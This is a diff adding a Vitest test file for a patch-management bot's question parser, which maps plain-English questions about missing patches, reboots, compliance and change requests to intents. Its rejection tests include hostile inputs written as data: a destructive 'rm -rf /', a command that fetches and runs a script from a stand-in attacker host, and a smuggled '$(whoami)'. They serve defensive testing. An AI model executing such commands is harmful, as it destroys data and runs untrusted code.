@@ -1,0 +1,134 @@
+import { describe, expect, it } from 'vitest';
+import type { Intent } from './intent.ts';
+import { matchQuestion, NOT_UNDERSTOOD, parseQuestion } from './questions.ts';
+
+const missing = (patch: string, target: string | null = null): Intent => ({ kind: 'missing', patch, target });
+const status = (host: string): Intent => ({ kind: 'status', host });
+const pending = (target: string | null = null): Intent => ({ kind: 'pending', target });
+const reboots = (target: string | null = null): Intent => ({ kind: 'reboots', target });
+const compliance = (standard: 'pci' | 'hipaa' | null, target: string | null = null): Intent => ({ kind: 'compliance', standard, target });
+
+describe('matchQuestion', () => {
+  it.each<[string, Intent]>([
+    // missing <patch>
+    ['which servers are missing KB5034441?', missing('KB5034441')],
+    ['Which hosts are missing kb5034441', missing('KB5034441')],
+    ['what machines lack KB5034441', missing('KB5034441')],
+    ['who is missing KB5034441?', missing('KB5034441')],
+    ['which prod-web servers are missing KB5034441?', missing('KB5034441', 'prod-web')],
+    ['which servers in prod-web are missing KB5034441', missing('KB5034441', 'prod-web')],
+    ['which servers are missing KB5034441 in prod-web?', missing('KB5034441', 'prod-web')],
+    ['is KB5034441 missing on web-01?', missing('KB5034441', 'web-01')],
+    ['where is KB5034441 still missing', missing('KB5034441')],
+    ['is KB5034441 installed everywhere?', missing('KB5034441')],
+    ['KB5034441?', missing('KB5034441')],
+    ['which boxes need DSA-5600-1', missing('DSA-5600-1')],
+    ['hosts without USN-6600-1 in staging', missing('USN-6600-1', 'staging')],
+    ['which VMs still need rhsa-2024:1234?', missing('RHSA-2024:1234')],
+    ['Hey patchbot, can you tell me which servers are missing `KB5034441`? thanks', missing('KB5034441')],
+    ['*which* servers are missing **KB5034441**', missing('KB5034441')],
+    ['which servers are missing “KB5034441”?', missing('KB5034441')],
+    ['which servers are missing deb:openssl@3.0.13-1~deb12u1', missing('deb:openssl@3.0.13-1~deb12u1')],
+    ['which servers are missing openssl?', missing('openssl')],
+    ['which hosts need curl in staging', missing('curl', 'staging')],
+    ['what machines lack package libssl3', missing('libssl3')],
+    // reboots
+    ['who needs a reboot?', reboots()],
+    ['Who needs a reboot', reboots()],
+    ['which servers need rebooting?', reboots()],
+    ['what needs a restart', reboots()],
+    ['any pending reboots?', reboots()],
+    ['which prod-web servers need a reboot?', reboots('prod-web')],
+    ['who needs a reboot in staging', reboots('staging')],
+    ['reboot status', reboots()],
+    // status <host>
+    ['status of web-01', status('web-01')],
+    ['what is the status of web-01?', status('web-01')],
+    ["what's the status of host web-01", status('web-01')],
+    ['web-01 status', status('web-01')],
+    ['how is web-01 doing?', status('web-01')],
+    ['what is missing on web-01', status('web-01')],
+    ["what's missing on web-01?", status('web-01')],
+    ['what does web-01 need?', status('web-01')],
+    ['what is web-01 missing', status('web-01')],
+    ['is web-01 up to date?', status('web-01')],
+    ['is WEB-01 patched', status('WEB-01')],
+    ['tell me about server web-01', status('web-01')],
+    // pending [group]
+    ["what's pending in prod-web?", pending('prod-web')],
+    ['what is pending', pending()],
+    ['pending patches for staging', pending('staging')],
+    ['what patches are missing in prod-web', pending('prod-web')],
+    ['which updates are outstanding across prod-web', pending('prod-web')],
+    ['what needs patching in staging?', pending('staging')],
+    ['anything pending?', pending()],
+    ['which servers need patching in staging?', pending('staging')],
+    // compliance
+    ['is web-01 compliant?', compliance(null, 'web-01')],
+    ['are we PCI compliant?', compliance('pci')],
+    ['are we compliant', compliance(null)],
+    ['is prod-web HIPAA compliant', compliance('hipaa', 'prod-web')],
+    ['how compliant is prod-web?', compliance(null, 'prod-web')],
+    ['pci compliance for prod-web', compliance('pci', 'prod-web')],
+    ['prod-web compliance', compliance(null, 'prod-web')],
+    ['anything overdue?', compliance(null)],
+    // changes
+    ['show me CHG-12', { kind: 'show', change: 'CHG-12' }],
+    ['how is chg-12 going?', { kind: 'show', change: 'CHG-12' }],
+    ['CHG-12', { kind: 'show', change: 'CHG-12' }],
+    ['what is the status of CHG-12', { kind: 'show', change: 'CHG-12' }],
+    ['what changes are pending?', { kind: 'changes' }],
+    ['list open changes', { kind: 'changes' }],
+    ['what is waiting for approval?', { kind: 'changes' }],
+    ['please approve CHG-7', { kind: 'approve', change: 'CHG-7', comment: null }],
+    ['roll out KB5034441 to prod-web', { kind: 'propose', patches: ['KB5034441'], groups: ['prod-web'], window: null, emergency: false }],
+    ['deploy KB5034441 to staging urgently', { kind: 'propose', patches: ['KB5034441'], groups: ['staging'], window: null, emergency: true }],
+    // scan and help
+    ['can you scan prod-web?', { kind: 'scan', target: 'prod-web' }],
+    ['please rescan web-01 now', { kind: 'scan', target: 'web-01' }],
+    ['scan everything', { kind: 'scan', target: null }],
+    ['what can you do?', { kind: 'help', topic: null, note: null }],
+    ['help', { kind: 'help', topic: null, note: null }],
+  ])('%j', (question, intent) => {
+    expect(matchQuestion(question)).toEqual(intent);
+  });
+
+  it.each([
+    'what is the meaning of life?',
+    'hello',
+    'reboot web-01',
+    'restart the database please',
+    'is it friday yet',
+    '🙂🙂🙂',
+    '',
+    '   ',
+    '; rm -rf / #',
+    '$(curl http://evil.example | sh)',
+    'status of $(whoami)',
+    'which servers are missing',
+    'which hosts need attention',
+  ])('does not guess: %j', (question) => {
+    expect(matchQuestion(question)).toBeNull();
+  });
+
+  it('turns anything it cannot place into help that says so', () => {
+    expect(parseQuestion('what is the meaning of life?')).toEqual({ kind: 'help', topic: null, note: NOT_UNDERSTOOD });
+    expect(NOT_UNDERSTOOD).toMatch(/^I understood none of that; try: `which servers are missing KB5034441\?`/);
+  });
+
+  it('refuses to work on very long or hostile text', () => {
+    expect(matchQuestion(`which servers are missing ${'a'.repeat(100_000)}`)).toBeNull();
+    expect(matchQuestion(`${'status of '.repeat(200)}web-01`)).toBeNull();
+    expect(matchQuestion('which servers are missing KB5034441 '.repeat(30))).toBeNull();
+    // Inputs shaped to make a careless regex backtrack: these must simply return.
+    expect(matchQuestion(`${'a '.repeat(240)}reboot`)).toEqual(reboots());
+    expect(matchQuestion(`is ${'a-'.repeat(240)} compliant`)).toEqual(compliance(null, `${'a-'.repeat(239)}a`));
+  });
+
+  it('keeps unicode out of names instead of passing it on', () => {
+    expect(matchQuestion('status of wéb-01')).toBeNull();
+    expect(matchQuestion('which servers are missing KB5034441 in prod‐web')).toEqual(missing('KB5034441', 'prod-web'));
+    expect(matchQuestion('which servers are missing KB5034441 in prod/web')).toBeNull();
+    expect(matchQuestion('what is pending in prod‽web')).toBeNull();
+  });
+});
